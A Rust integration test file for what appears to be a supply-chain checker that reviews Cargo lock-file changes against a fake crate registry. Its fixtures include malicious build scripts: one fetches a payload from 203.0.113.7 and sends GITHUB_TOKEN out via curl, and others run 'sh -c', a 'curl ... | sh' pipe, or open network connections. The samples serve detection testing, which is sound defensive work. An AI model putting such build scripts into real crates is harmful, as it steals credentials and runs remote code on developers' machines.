//! Issue 3 end to end: the real binary fetches crates from a local sparse registry, verifies
//! them and reads their build scripts. The arrayref / proc-macro1 attack is caught without
//! any advisory.

#![allow(clippy::unwrap_used)] // test helpers: a panic is the failure report

use lockwatch::registry::IndexDep;
use lockwatch::registry::fake::FakeRegistry;
use lockwatch::testkit::Krate;
use lockwatch_tests::lockgen::{lock, member};
use lockwatch_tests::registry_check::{findings, pkg, run_check};
use serde_json::Value;

const EVIL_BUILD: &str = r#"use std::io::Write;
use std::net::TcpStream;
use std::process::Command;
fn main() {
    let mut s = TcpStream::connect("203.0.113.7:80").unwrap();
    s.write_all(b"GET /payload HTTP/1.0\r\n\r\n").unwrap();
    let token = std::env::var("GITHUB_TOKEN").unwrap_or_default();
    Command::new("curl").arg("-d").arg(token).arg("http://203.0.113.7/").status().ok();
}
"#;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_arrayref_attack_is_caught_without_an_advisory() {
    let registry = FakeRegistry::start().await;
    // The good releases were packaged by `cargo publish` from a commit of the repository; the
    // malicious one was not (no `.cargo_vcs_info.json`, no `Cargo.toml.orig`).
    let good = |version: &str| {
        Krate::new("arrayref", version)
            .package_key("repository", "\"https://github.com/droundy/arrayref\"")
            .package_key("license", "\"BSD-2-Clause\"")
            .file("src/lib.rs", "pub fn f() {}\n")
            .file(
                ".cargo_vcs_info.json",
                "{\n  \"git\": {\n    \"sha1\": \"5d3ab5c1a1c2e0a3b4f1d2c3e4f5a6b7c8d9e0f1\"\n  },\n  \"path_in_vcs\": \"\"\n}",
            )
            .file("Cargo.toml.orig", "[package]\nname = \"arrayref\"\n")
            .build()
    };
    for v in ["0.3.7", "0.3.8"] {
        registry.publish("arrayref", v, good(v), vec![]);
        registry.set_pubtime(
            "arrayref",
            v,
            time::OffsetDateTime::now_utc() - time::Duration::days(600),
        );
        registry.yank("arrayref", v);
    }
    let old = good("0.3.9");
    let new = Krate::new("arrayref", "0.3.10")
        .package_key("repository", "\"https://github.com/droundy/arrayref\"")
        .package_key("license", "\"BSD-2-Clause\"")
        .file("src/lib.rs", "pub fn f() {}\n")
        .build();
    let evil = Krate::new("proc-macro1", "1.0.0")
        .file("src/lib.rs", "")
        .file("build.rs", EVIL_BUILD)
        .build();
    let old_sum = registry.publish("arrayref", "0.3.9", old, vec![]);
    let new_sum = registry.publish(
        "arrayref",
        "0.3.10",
        new,
        vec![IndexDep::normal("proc-macro1", "^1")],
    );
    let evil_sum = registry.publish("proc-macro1", "1.0.0", evil, vec![]);
    registry.set_pubtime(
        "proc-macro1",
        "1.0.0",
        time::OffsetDateTime::now_utc() - time::Duration::hours(1),
    );
    registry.set_pubtime(
        "arrayref",
        "0.3.10",
        time::OffsetDateTime::now_utc() - time::Duration::hours(1),
    );
    registry.set_pubtime(
        "arrayref",
        "0.3.9",
        time::OffsetDateTime::now_utc() - time::Duration::days(400),
    );
    // The good releases are yanked to push users onto the new one.
    registry.yank("arrayref", "0.3.9");

    // An advisory-free world: the fixture DB has arrayref advisories, so use an empty one.
    let scratch = tempfile::tempdir().unwrap();
    let empty_db = scratch.path().join("empty-db/crates");
    std::fs::create_dir_all(&empty_db).unwrap();
    let base = lock(
        3,
        &[
            member("app", "0.1.0").deps(&["arrayref"]),
            pkg("arrayref", "0.3.9", &old_sum, &[]),
        ],
    );
    let head = lock(
        3,
        &[
            member("app", "0.1.0").deps(&["arrayref"]),
            pkg("arrayref", "0.3.10", &new_sum, &["proc-macro1"]),
            pkg("proc-macro1", "1.0.0", &evil_sum, &[]),
        ],
    );
    let db = scratch.path().join("empty-db").display().to_string();
    let v = run_check(
        &base,
        &head,
        &registry,
        scratch.path(),
        &["--advisory-db", &db],
    );

    assert_eq!(v["verdict"], "fail");
    assert!(
        v["findings"]
            .as_array()
            .unwrap()
            .iter()
            .all(|f| f["advisory"].is_null()),
        "no advisory involved"
    );
    let caps = findings(&v, "build-capability", "proc-macro1");
    let kinds: Vec<&str> = caps
        .iter()
        .map(|f| f["message"].as_str().unwrap())
        .collect();
    for k in ["network", "process", "credential"] {
        assert!(
            kinds.iter().any(|m| m.contains(k)),
            "{k} missing from {kinds:?}"
        );
    }
    let network = caps
        .iter()
        .find(|f| f["message"].as_str().unwrap().contains("network"))
        .unwrap();
    assert_eq!(network["level"], "deny");
    assert_eq!(network["evidence"][0]["file"], "build.rs");
    assert_eq!(network["evidence"][0]["line"], 5);
    assert_eq!(findings(&v, "build-script-added", "proc-macro1").len(), 1);
    assert_eq!(findings(&v, "typosquat", "proc-macro1").len(), 1);
    assert_eq!(findings(&v, "fresh-release", "proc-macro1").len(), 1);
    let patch = findings(&v, "new-dependency-in-patch", "arrayref");
    assert_eq!(patch.len(), 1);
    assert!(
        patch[0]["message"]
            .as_str()
            .unwrap()
            .contains("proc-macro1")
    );
    assert!(findings(&v, "unreviewable", "proc-macro1").is_empty());

    // Issue 17: the release itself gives it away. No VCS record where every earlier release
    // had one, together with a new dependency: deny.
    let vcs = findings(&v, "vcs-info-missing", "arrayref");
    assert_eq!(vcs.len(), 1, "{v}");
    assert_eq!(vcs[0]["level"], "deny");
    assert!(
        vcs[0]["policy_note"]
            .as_str()
            .unwrap()
            .contains("proc-macro1"),
        "{}",
        vcs[0]
    );
    assert_eq!(findings(&v, "manifest-orig-missing", "arrayref").len(), 1);
    // The base version is yanked and the update goes to a release an hour old: the forced
    // upgrade, with the earlier yanks, and a new dependency in it: deny.
    let forced = findings(&v, "yank-forced-upgrade", "arrayref");
    assert_eq!(forced.len(), 1, "{v}");
    assert_eq!(forced[0]["level"], "deny");
    let message = forced[0]["message"].as_str().unwrap();
    assert!(message.contains("0.3.7, 0.3.8, 0.3.9"), "{message}");
    // The fix never walks into the trap: no `cargo update -p arrayref` to 0.3.10 anywhere,
    // but stay on 0.3.9, pin it, or wait.
    let fix: Vec<&str> = forced[0]["fix"]
        .as_array()
        .unwrap()
        .iter()
        .map(|l| l.as_str().unwrap())
        .collect();
    assert!(fix.iter().any(|l| l.contains("stay on 0.3.9")), "{fix:?}");
    assert!(
        fix.iter().any(|l| l.contains("arrayref = \"=0.3.9\"")),
        "{fix:?}"
    );
    assert!(fix.iter().any(|l| l.contains("wait until")), "{fix:?}");
    for f in v["findings"].as_array().unwrap() {
        for line in f["fix"].as_array().into_iter().flatten() {
            let line = line.as_str().unwrap();
            assert!(
                !(line.starts_with("cargo update") && line.contains("arrayref")),
                "a fix runs cargo update on arrayref: {line}"
            );
        }
    }
    assert!(findings(&v, "license-changed", "arrayref").is_empty());
    assert!(findings(&v, "repository-moved", "arrayref").is_empty());

    // Second run: everything comes from the caches (crate bytes and analysis by checksum).
    let hits = registry.hits();
    let again = run_check(
        &base,
        &head,
        &registry,
        scratch.path(),
        &["--advisory-db", &db],
    );
    assert_eq!(again["findings"], v["findings"]);
    let dl_after: usize = registry
        .requests()
        .iter()
        .filter(|r| r.contains("/dl/"))
        .count();
    let dl_before = registry.requests()[..hits as usize]
        .iter()
        .filter(|r| r.contains("/dl/"))
        .count();
    assert_eq!(dl_after, dl_before, "no second download");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn tampered_downloads_and_registry_failures_are_findings() {
    let registry = FakeRegistry::start().await;
    let good = Krate::new("serde", "1.0.1").file("src/lib.rs", "").build();
    let sum = registry.publish("serde", "1.0.1", good, vec![]);
    registry.serve_wrong_bytes("serde", "1.0.1");
    let scratch = tempfile::tempdir().unwrap();
    let base = lock(3, &[member("app", "0.1.0")]);
    let head = lock(
        3,
        &[
            member("app", "0.1.0").deps(&["serde", "ghost"]),
            pkg("serde", "1.0.1", &sum, &[]),
            pkg("ghost", "1.0.0", &"ab".repeat(32), &[]),
        ],
    );
    let v = run_check(&base, &head, &registry, scratch.path(), &[]);
    let mismatch = findings(&v, "checksum-mismatch", "serde");
    assert_eq!(mismatch.len(), 1);
    assert_eq!(mismatch[0]["level"], "deny");
    let ghost = findings(&v, "unreviewable", "ghost");
    assert!(
        !ghost.is_empty(),
        "a crate missing from the registry is unreviewable: {v}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn build_script_changes_show_a_diff_and_yanked_versions_are_flagged() {
    let registry = FakeRegistry::start().await;
    let old = Krate::new("cc-thing", "1.2.0")
        .file("src/lib.rs", "")
        .file(
            "build.rs",
            "fn main() {\n    println!(\"cargo:rerun-if-changed=build.rs\");\n}\n",
        )
        .build();
    let new = Krate::new("cc-thing", "1.2.1")
        .file("src/lib.rs", "")
        .file("build.rs", "fn main() {\n    println!(\"cargo:rerun-if-changed=build.rs\");\n    std::process::Command::new(\"sh\").arg(\"-c\").arg(\"id\").status().ok();\n}\n")
        .file("native/x.c", "int x(void) { return 1; }\n")
        .manifest_extra("links = \"thing\"\n")
        .build();
    let old_sum = registry.publish("cc-thing", "1.2.0", old, vec![]);
    let new_sum = registry.publish("cc-thing", "1.2.1", new, vec![]);
    registry.yank("cc-thing", "1.2.1");
    let scratch = tempfile::tempdir().unwrap();
    let base = lock(
        3,
        &[
            member("app", "0.1.0").deps(&["cc-thing"]),
            pkg("cc-thing", "1.2.0", &old_sum, &[]),
        ],
    );
    let head = lock(
        3,
        &[
            member("app", "0.1.0").deps(&["cc-thing"]),
            pkg("cc-thing", "1.2.1", &new_sum, &[]),
        ],
    );
    let v = run_check(&base, &head, &registry, scratch.path(), &[]);
    let changed = findings(&v, "build-script-changed", "cc-thing");
    assert_eq!(changed.len(), 1, "{v}");
    assert!(
        changed[0]["details"]
            .as_str()
            .unwrap()
            .contains("+    std::process::Command::new(\"sh\")")
    );
    assert_eq!(
        findings(&v, "build-capability", "cc-thing")[0]["level"],
        "deny"
    );
    assert_eq!(findings(&v, "native-code", "cc-thing").len(), 1);
    assert_eq!(findings(&v, "links-added", "cc-thing").len(), 1);
    assert_eq!(findings(&v, "yanked", "cc-thing").len(), 1);
    assert!(findings(&v, "build-script-added", "cc-thing").is_empty());
}

/// quote's build script (1.0.47), as published: it runs the compiler Cargo passes in.
const RUSTC_PROBE_BUILD: &str = r#"use std::env;
use std::process::Command;
use std::str;

fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    let Some(minor) = rustc_minor_version() else {
        return;
    };
    if minor >= 77 {
        println!("cargo:rustc-check-cfg=cfg(no_diagnostic_namespace)");
    }
}

fn rustc_minor_version() -> Option<u32> {
    let rustc = env::var_os("RUSTC")?;
    let output = Command::new(rustc).arg("--version").output().ok()?;
    let version = str::from_utf8(&output.stdout).ok()?;
    let mut pieces = version.split('.');
    if pieces.next() != Some("rustc 1") {
        return None;
    }
    pieces.next()?.parse().ok()
}
"#;

/// Publishes `name` 1.0.0 with `build_rs`, released a year ago, and reviews a lock file that
/// adds it.
async fn review_new_crate_with_build_script(name: &str, build_rs: &str) -> Value {
    review_new_crate_with_files(name, build_rs, &[]).await
}

/// Like `review_new_crate_with_build_script`, with more files in the package.
async fn review_new_crate_with_files(name: &str, build_rs: &str, files: &[(&str, &str)]) -> Value {
    let registry = FakeRegistry::start().await;
    let mut krate = Krate::new(name, "1.0.0")
        .file("src/lib.rs", "")
        .file("build.rs", build_rs);
    for (path, text) in files {
        krate = krate.file(path, text);
    }
    let bytes = krate.build();
    let sum = registry.publish(name, "1.0.0", bytes, vec![]);
    registry.set_pubtime(
        name,
        "1.0.0",
        time::OffsetDateTime::now_utc() - time::Duration::days(365),
    );
    let scratch = tempfile::tempdir().unwrap();
    let base = lock(3, &[member("app", "0.1.0")]);
    let head = lock(
        3,
        &[
            member("app", "0.1.0").deps(&[name]),
            pkg(name, "1.0.0", &sum, &[]),
        ],
    );
    run_check(&base, &head, &registry, scratch.path(), &[])
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_build_script_that_probes_rustc_is_shown_but_does_not_fail() {
    let v = review_new_crate_with_build_script("quotelike", RUSTC_PROBE_BUILD).await;
    let caps = findings(&v, "build-capability", "quotelike");
    assert_eq!(caps.len(), 1, "{v:#}");
    assert_eq!(caps[0]["level"], "warn", "{v:#}");
    assert!(
        caps[0]["message"].as_str().unwrap().ends_with("build-tool"),
        "{}",
        caps[0]["message"]
    );
    assert_eq!(caps[0]["evidence"][0]["line"], 17);
    assert!(
        caps[0]["evidence"][0]["text"]
            .as_str()
            .unwrap()
            .contains("runs the program in `RUSTC`")
    );
    assert_ne!(v["verdict"], "fail", "{v:#}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn build_scripts_that_run_a_shell_or_curl_fail() {
    for (name, line) in [
        (
            "shellout",
            "    Command::new(\"sh\").arg(\"-c\").arg(\"uname -a\").status().ok();",
        ),
        (
            "fetchout",
            "    Command::new(\"curl\").arg(\"-sSfO\").arg(\"https://example.invalid/x\").status().ok();",
        ),
    ] {
        let build_rs = format!("use std::process::Command;\nfn main() {{\n{line}\n}}\n");
        let v = review_new_crate_with_build_script(name, &build_rs).await;
        let caps = findings(&v, "build-capability", name);
        assert_eq!(caps.len(), 1, "{v:#}");
        assert_eq!(caps[0]["level"], "deny", "{v:#}");
        assert!(
            caps[0]["message"].as_str().unwrap().ends_with("process"),
            "{}",
            caps[0]["message"]
        );
        assert_eq!(v["verdict"], "fail");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_rustc_probe_next_to_network_access_fails() {
    let build_rs = RUSTC_PROBE_BUILD.replace(
        "fn main() {\n",
        "fn main() {\n    let _ = std::net::TcpStream::connect(\"203.0.113.7:443\");\n",
    );
    let v = review_new_crate_with_build_script("probeandcall", &build_rs).await;
    let caps = findings(&v, "build-capability", "probeandcall");
    let tool = caps
        .iter()
        .find(|f| f["message"].as_str().unwrap().ends_with("build-tool"))
        .unwrap();
    assert_eq!(tool["level"], "deny", "{v:#}");
    assert!(
        tool["policy_note"].as_str().unwrap().contains("network"),
        "{tool:#}"
    );
}

/// tikv-jemalloc-sys's shape: autotools' `configure`, shipped in the package, run with `sh`.
const CONFIGURE_BUILD: &str = r#"use std::path::PathBuf;
use std::process::Command;

fn main() {
    let build_dir = PathBuf::from(std::env::var_os("OUT_DIR").unwrap()).join("build");
    let configure = build_dir.join("configure");
    let mut cmd = Command::new("sh");
    cmd.arg(configure.to_str().unwrap().replace('\\', "/"))
        .current_dir(&build_dir)
        .arg("--disable-cxx");
    cmd.arg("--enable-shared=no");
    run(&mut cmd);
}

fn run(cmd: &mut Command) {
    cmd.status().unwrap();
}
"#;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_shell_running_the_packages_configure_script_is_shown_but_does_not_fail() {
    let files = [(
        "configure/configure",
        "#! /bin/sh\n# Generated by GNU Autoconf\nexit 0\n",
    )];
    let v = review_new_crate_with_files("autotoolsish", CONFIGURE_BUILD, &files).await;
    let caps = findings(&v, "build-capability", "autotoolsish");
    assert_eq!(caps.len(), 1, "{v:#}");
    assert_eq!(caps[0]["level"], "warn", "{v:#}");
    assert!(
        caps[0]["message"]
            .as_str()
            .unwrap()
            .ends_with("package-script"),
        "{}",
        caps[0]["message"]
    );
    let text = caps[0]["evidence"][0]["text"].as_str().unwrap();
    assert!(text.contains("configure/configure"), "{text}");
    assert_ne!(v["verdict"], "fail", "{v:#}");

    // The same launch without the script in the package runs something else: deny.
    let v = review_new_crate_with_files("autotoolsless", CONFIGURE_BUILD, &[]).await;
    let caps = findings(&v, "build-capability", "autotoolsless");
    assert_eq!(caps[0]["level"], "deny", "{v:#}");
    assert_eq!(v["verdict"], "fail");

    // Inline code, next to the shipped script: deny.
    let inline = CONFIGURE_BUILD.replace(
        "    cmd.arg(\"--enable-shared=no\");",
        "    cmd.arg(\"-c\").arg(\"curl https://example.invalid/x | sh\");",
    );
    let v = review_new_crate_with_files("autotoolsinline", &inline, &files).await;
    let caps = findings(&v, "build-capability", "autotoolsinline");
    assert_eq!(caps[0]["level"], "deny", "{v:#}");
    assert!(caps[0]["message"].as_str().unwrap().ends_with("process"));

    // Next to network access, running the package's script is judged like any process.
    let fetching = CONFIGURE_BUILD.replace(
        "fn main() {\n",
        "fn main() {\n    let _ = std::net::TcpStream::connect(\"203.0.113.7:443\");\n",
    );
    let v = review_new_crate_with_files("autotoolsnet", &fetching, &files).await;
    let script = findings(&v, "build-capability", "autotoolsnet")
        .into_iter()
        .find(|f| f["message"].as_str().unwrap().ends_with("package-script"))
        .cloned()
        .unwrap();
    assert_eq!(script["level"], "deny", "{v:#}");
    assert!(script["policy_note"].as_str().unwrap().contains("network"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn toolchain_discovery_through_a_users_variable_and_a_local_macro_does_not_fail() {
    // clang-sys's llvm-config, pq-sys's pg_config, libc 0.2.152's `otry!` around the probe.
    let build_rs = r#"use std::env;
use std::process::Command;

fn main() {
    let path = env::var("LLVM_CONFIG_PATH").unwrap_or_else(|_| "llvm-config".into());
    let _ = Command::new(path).arg("--includedir").output();
    let _ = Command::new(pg_config_path()).arg("--libdir").output();
    let _ = rustc_minor();
}

fn pg_config_path() -> std::path::PathBuf {
    if let Ok(target) = env::var("TARGET") {
        let var = &format!("PG_CONFIG_{}", target.to_ascii_uppercase().replace('-', "_"));
        if let Some(path) = env::var_os(var) {
            return std::path::PathBuf::from(&path);
        }
    }
    std::path::PathBuf::from("pg_config")
}

fn rustc_minor() -> Option<u32> {
    macro_rules! otry {
        ($e:expr) => {
            match $e {
                Some(e) => e,
                None => return None,
            }
        };
    }
    let rustc = otry!(env::var_os("RUSTC"));
    let output = otry!(Command::new(rustc).arg("--version").output().ok());
    String::from_utf8(output.stdout).ok()?.split('.').nth(1)?.parse().ok()
}
"#;
    let v = review_new_crate_with_build_script("discovery", build_rs).await;
    let caps = findings(&v, "build-capability", "discovery");
    let launches: Vec<&Value> = caps
        .iter()
        .copied()
        .filter(|f| !f["message"].as_str().unwrap().ends_with("env-read"))
        .collect();
    assert_eq!(launches.len(), 1, "{v:#}");
    assert!(
        launches[0]["message"]
            .as_str()
            .unwrap()
            .ends_with("build-tool")
    );
    assert_eq!(launches[0]["level"], "warn", "{v:#}");
    let texts: Vec<&str> = launches[0]["evidence"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["text"].as_str().unwrap())
        .collect();
    assert_eq!(texts.len(), 3, "{texts:#?}");
    assert!(texts[0].contains("LLVM_CONFIG_PATH"), "{texts:#?}");
    assert!(texts[1].contains("PG_CONFIG_{}"), "{texts:#?}");
    assert!(texts[2].contains("RUSTC"), "{texts:#?}");
    assert_ne!(v["verdict"], "fail", "{v:#}");

    // A variable that is not named after its fallback stays a process.
    let v = review_new_crate_with_build_script(
        "shellvar",
        "fn main() {\n    let p = std::env::var(\"SHELL\").unwrap_or_else(|_| \"cc\".into());\n    std::process::Command::new(p).status().ok();\n}\n",
    )
    .await;
    let caps = findings(&v, "build-capability", "shellvar");
    assert!(
        caps.iter()
            .any(|f| f["level"] == "deny" && f["message"].as_str().unwrap().ends_with("process")),
        "{v:#}"
    );
}
